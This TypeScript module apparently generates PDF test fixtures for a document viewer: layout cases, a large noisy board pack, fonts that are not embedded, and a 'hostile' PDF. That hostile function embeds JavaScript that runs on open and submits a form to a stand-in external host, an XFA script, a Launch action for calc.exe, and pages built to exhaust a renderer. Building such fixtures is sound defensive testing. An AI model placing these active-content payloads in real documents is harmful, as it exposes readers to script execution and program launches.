import { randomBytes } from "node:crypto";
import {
  degrees,
  drawObject,
  PDFDocument,
  type PDFFont,
  PDFHexString,
  PDFName,
  type PDFPage,
  StandardFonts,
} from "@cantoo/pdf-lib";

const A4: [number, number] = [595, 842];

async function saved(document: PDFDocument): Promise<Buffer> {
  return Buffer.from(await document.save());
}

function write(
  page: PDFPage,
  font: PDFFont,
  lines: string[],
  at: { x: number; y: number; size?: number },
): void {
  const { x, y, size = 11 } = at;
  for (const [row, line] of lines.entries()) page.drawText(line, { x, y: y - row * size * 1.3, size, font });
}

/** Words to cite, by their page in `layouts`. */
export const LAYOUT_WORDS: { name: string; page: number; words: string }[] = [
  {
    name: "parts of lines in a face with serifs",
    page: 1,
    words: "illicit mooring fees\nWill Mammoth's winter",
  },
  { name: "words at the end of a bold line", page: 1, words: "to the Board" },
  { name: "cells of a table in a typewriter face", page: 1, words: "18,420,000    20,100,000" },
  { name: "words across the end of a column", page: 2, words: "left line i of the harbour\nright line a" },
  { name: "words on a page that is turned", page: 3, words: "tells of reserves" },
  { name: "words on a page that is cropped", page: 4, words: "tells of dividends" },
];

/** Pages whose words are not where the text alone would suggest. */
export async function layouts(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const serif = await document.embedFont(StandardFonts.TimesRoman);
  const bold = await document.embedFont(StandardFonts.HelveticaBold);
  const typewriter = await document.embedFont(StandardFonts.Courier);

  const first = document.addPage(A4);
  write(first, bold, ["Management report to the Board"], { x: 60, y: 770, size: 20 });
  write(
    first,
    serif,
    [
      "The shortfall was due to cancelled crossings, and to illicit mooring fees",
      "Will Mammoth's winter cargo was in dock for 19 days longer than planned.",
    ],
    { x: 60, y: 700, size: 12 },
  );
  const table = ["Passenger revenue            18,420,000    20,100,000"];
  write(first, typewriter, table, { x: 60, y: 600, size: 9 });

  const columns = document.addPage(A4);
  const rows = (side: string) =>
    [..."abcdefgh"].map((row) => `${side} line ${row} of the harbour trust's report`);
  write(columns, serif, [...rows("left"), "left line i of the harbour"], { x: 60, y: 700 });
  write(columns, serif, [...rows("right"), "right line i of the harbour"], { x: 320, y: 700 });

  const turned = document.addPage(A4);
  turned.setRotation(degrees(90));
  turned.drawText("A turned page tells of reserves", {
    x: 500,
    y: 60,
    size: 14,
    font: serif,
    rotate: degrees(90),
  });
  const cropped = document.addPage(A4);
  cropped.setCropBox(100, 200, 400, 500);
  write(cropped, serif, ["A cropped page tells of dividends"], { x: 120, y: 600, size: 14 });
  return saved(document);
}

/** A board pack of many pages, each with an image of noise: about 20 kB a page that cannot be compressed. */
export async function boardPack(pages: number): Promise<Buffer> {
  const document = await PDFDocument.create();
  const serif = await document.embedFont(StandardFonts.TimesRoman);
  // The pages come first in the file, one after the other, so that reading one skips those before it.
  const all = Array.from({ length: pages }, () => document.addPage(A4));
  for (const [at, page] of all.entries()) {
    const number = at + 1;
    const picture = document.context.stream(randomBytes(80 * 80 * 3), {
      Type: "XObject",
      Subtype: "Image",
      Width: 80,
      Height: 80,
      ColorSpace: "DeviceRGB",
      BitsPerComponent: 8,
    });
    page.node.setXObject(PDFName.of("Noise"), document.context.register(picture));
    page.pushOperators(drawObject("Noise"));
    const line = (row: number) =>
      `Page ${number}, line ${row}: the trustees noted the reserves of the harbour`;
    write(
      page,
      serif,
      Array.from({ length: 40 }, (_, row) => line(row + 1)),
      { x: 60, y: 780 },
    );
  }
  return saved(document);
}

/** A PDF with everything that could attack its viewer; and a page to turn to. */
export async function hostile(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const serif = await document.embedFont(StandardFonts.TimesRoman);
  const script = context.obj({
    S: "JavaScript",
    JS: PDFHexString.fromText("app.alert('ran'); this.submitForm('https://elsewhere.example/');"),
  });
  catalog.set(PDFName.of("OpenAction"), script);
  const form = { Fields: [], XFA: context.register(context.stream("<xdp><script>ran()</script></xdp>")) };
  catalog.set(PDFName.of("AcroForm"), context.obj(form));

  const linked = document.addPage(A4);
  write(linked, serif, ["Click here for a prize"], { x: 60, y: 700 });
  linked.node.set(PDFName.of("AA"), context.obj({ O: script }));
  const actions = [
    { S: "URI", URI: PDFHexString.fromText("https://elsewhere.example/") },
    { S: "Launch", F: PDFHexString.fromText("calc.exe") },
    { S: "JavaScript", JS: PDFHexString.fromText("app.alert('ran')") },
  ];
  const links = actions.map((A) =>
    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 600, 560, 800], A })),
  );
  linked.node.set(PDFName.of("Annots"), context.obj(links));

  const enormous = document.addPage([14_400, 14_400]);
  write(enormous, serif, ["A page of five metres"], { x: 100, y: 14_000, size: 200 });

  const busy = document.addPage(A4);
  write(busy, serif, ["A page of many strokes"], { x: 60, y: 700 });
  const strokes = Array.from({ length: 150_000 }, (_, at) => `${at % 595} 0 m ${(at * 7) % 595} 842 l S`);
  const drawing = context.register(context.flateStream(strokes.join("\n")));
  busy.node.addContentStream(drawing);

  const broken = document.addPage(A4);
  write(broken, serif, ["A page with a broken part"], { x: 60, y: 700 });
  broken.node.addContentStream(
    context.register(context.stream("q ( BT <<< /Nowhere Do [ 1e999 w \u0000 Q Q Q")),
  );

  write(document.addPage(A4), serif, ["The last page"], { x: 60, y: 700 });
  return saved(document);
}

/** Text in fonts that the file does not embed: a Japanese one, whose codes need a mapping table, and Helvetica. */
export async function fontsNotEmbedded(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const { context } = document;
  const page = document.addPage(A4);
  write(page, await document.embedFont(StandardFonts.Helvetica), ["Minutes in two languages"], {
    x: 60,
    y: 700,
  });
  const descendant = context.obj({
    Type: "Font",
    Subtype: "CIDFontType0",
    BaseFont: "HeiseiMin-W3",
    CIDSystemInfo: {
      Registry: PDFHexString.of("41646f6265"),
      Ordering: PDFHexString.of("4a6170616e31"),
      Supplement: 2,
    },
  });
  const font = context.obj({
    Type: "Font",
    Subtype: "Type0",
    BaseFont: "HeiseiMin-W3-UniJIS-UTF16-H",
    Encoding: "UniJIS-UTF16-H",
    DescendantFonts: [context.register(descendant)],
  });
  page.node.setFontDictionary(PDFName.of("Heisei"), context.register(font));
  page.node.addContentStream(
    context.register(context.stream("BT /Heisei 24 Tf 60 600 Td <53d67de05f794f1a8b704e8b9332> Tj ET")),
  );
  return saved(document);
}
